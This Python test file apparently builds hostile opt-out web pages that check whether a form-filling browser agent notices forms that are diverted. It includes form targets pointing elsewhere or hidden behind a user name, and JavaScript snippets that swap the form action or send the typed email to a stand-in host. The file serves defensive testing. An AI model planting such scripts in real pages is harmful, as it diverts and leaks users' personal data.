# ruff: noqa: E501 - a page's script stays in one piece
"""Forms that are sent elsewhere than they say, or when they should not be."""

from tests.channels.web.acme import FORM_END, FORM_FIELDS, FORM_START, HOST
from tests.hostile.page import (
    CHALLENGE,
    DONE,
    ELSEWHERE,
    FORM_CHANGED,
    LAYOUT_UNKNOWN,
    OFF_DOMAIN,
    Hostile,
    Right,
    either,
    opt_out,
    scripted,
)

BROWSER = ("browser",)


def _target(name: str, does: str, attributes: str, right: Right) -> Hostile:
    return Hostile(name, does, opt_out(start=f"<h1>Opt out</h1><form {attributes}>"), right)


def _turning(name: str, does: str, script: str, right: Right = OFF_DOMAIN) -> Hostile:
    page = scripted(f"const form = document.forms[0], away = '{ELSEWHERE}/x'; {script}")
    return Hostile(name, does, page, right, ways=BROWSER, learns=True)


def _button(name: str, does: str, attributes: str, right: Right = OFF_DOMAIN) -> Hostile:
    return Hostile(name, does, opt_out(end=f"<button {attributes}>Send request</button></form>"), right)


PAGES = (
    _target(
        "form-elsewhere",
        "posts to another organisation",
        f'method=post action="{ELSEWHERE}/x"',
        OFF_DOMAIN,
    ),
    _target("form-elsewhere-by-get", "asks another organisation", f'action="{ELSEWHERE}/x"', OFF_DOMAIN),
    _target(
        "form-unencrypted",
        "posts without encryption",
        f'method=post action="http://{HOST}/send"',
        FORM_CHANGED,
    ),
    _target(
        "form-to-another-port",
        "posts to another port",
        f'method=post action="https://{HOST}:8443/send"',
        OFF_DOMAIN,
    ),
    _target(
        "form-to-user-name",
        "hides its host behind a user name",
        f'method=post action="https://{HOST}@elsewhere.example/"',
        OFF_DOMAIN,
    ),
    _target(
        "form-to-data", "posts to a data: page", 'method=post action="data:text/html,x"', OFF_DOMAIN
    ),
    _target("form-to-file", "posts to a file", 'method=post action="file:///tmp/x"', OFF_DOMAIN),
    _target(
        "form-by-mail",
        "sends itself by mail",
        'method=post action="mailto:a@elsewhere.example"',
        OFF_DOMAIN,
    ),
    _target(
        "form-to-nonsense", "posts to what is no address", 'method=post action="https://["', OFF_DOMAIN
    ),
    _target(
        "form-in-a-window",
        "answers in another window",
        'method=post action="/send" target="_blank"',
        FORM_CHANGED,
    ),
    _target(
        "form-in-a-frame", "answers in a frame", 'method=post action="/send" target="sink"', FORM_CHANGED
    ),
    _button(
        "button-elsewhere",
        "the button has a target of its own",
        f'formaction="{ELSEWHERE}/x" formmethod=post',
    ),
    _button(
        "button-unencrypted",
        "the button's own target is unencrypted",
        f'formaction="http://{HOST}/x" formmethod=post',
        FORM_CHANGED,
    ),
    Hostile(
        "button-of-another-form",
        "the button sends another form than the one it stands in",
        opt_out(
            end=f'<button form=other>Send request</button></form><form id=other method=post action="{ELSEWHERE}/x"></form>'
        ),
        OFF_DOMAIN,
    ),
    Hostile(
        "fields-of-another-form",
        "the fields belong to a form that goes elsewhere",
        opt_out(
            start=f'<h1>Opt out</h1><form id=away method=post action="{ELSEWHERE}/x"></form><form method=post action="/send">',
            fields=FORM_FIELDS.replace("<input ", "<input form=away ").replace(
                "<select ", "<select form=away "
            ),
        ),
        FORM_CHANGED,
    ),
    _turning(
        "turns-at-submit",
        "changes its target when it is sent",
        "form.onsubmit = () => { form.action = away }",
    ),
    _turning(
        "turns-on-focus",
        "changes its target when a field is entered",
        "form.addEventListener('focusin', () => { form.action = away })",
    ),
    _turning(
        "turns-on-input",
        "changes its target when something is typed",
        "form.addEventListener('input', () => { form.action = away })",
    ),
    _turning(
        "turns-on-mouse",
        "changes its target under the mouse",
        "addEventListener('mousedown', () => { form.action = away })",
    ),
    _turning(
        "turns-on-click",
        "the button gets a target when it is clicked",
        "document.querySelector('form button').onclick = e => { e.target.formAction = away }",
    ),
    _turning(
        "replaced-at-click",
        "a click goes to a link instead",
        "addEventListener('click', e => { if (e.target.tagName !== 'BUTTON') return; e.preventDefault(); location = away + '?' + encodeURIComponent(form.em.value) }, true)",
    ),
    _turning(
        "sends-itself",
        "is sent elsewhere as soon as something is typed",
        "form.oninput = () => { form.action = away; form.requestSubmit() }",
        either(OFF_DOMAIN, FORM_CHANGED),
    ),
    _turning("held-back", "a script holds the form back", "form.onsubmit = () => false", LAYOUT_UNKNOWN),
    _turning(
        "confirm-at-click",
        "the button asks whether one is sure",
        "document.querySelector('form button').onclick = () => confirm('Sure?')",
        LAYOUT_UNKNOWN,
    ),
    _turning(
        "emptied",
        "forgets what was typed",
        "form.oninput = () => setTimeout(() => form.reset())",
        FORM_CHANGED,
    ),
    Hostile(
        "receipt-before-sending",
        "shows the receipt beside the form, and holds the form back",
        opt_out(
            start="<h2>Request received</h2>" + FORM_START,
            end=FORM_END + "<script>document.forms[0].onsubmit = () => false</script>",
        ),
        LAYOUT_UNKNOWN,
        ways=BROWSER,
        learns=True,
    ),
    Hostile(
        "receipt-without-sending",
        "draws the receipt, and sends nothing",
        scripted(
            "document.forms[0].onsubmit = () => { document.body.innerHTML = '<h1>Request received</h1>'; return false }"
        ),
        LAYOUT_UNKNOWN,
        ways=BROWSER,
        learns=True,
    ),
    Hostile(
        "more-data-at-submit",
        "adds fields of its own when it is sent",
        scripted(
            "document.forms[0].addEventListener('formdata', e => e.formData.append('more', navigator.userAgent))"
        ),
        DONE,
        ways=BROWSER,
        learns=True,
        posts=1,
    ),
    Hostile(
        "challenge-after-typing",
        "asks for a human once something is typed",
        scripted(
            "document.addEventListener('input', () => document.forms[0].insertAdjacentHTML('beforeend', '<div class=g-recaptcha>Verify you are human</div>'), {once: true})"
        ),
        CHALLENGE,
        ways=BROWSER,
        learns=True,
    ),
)
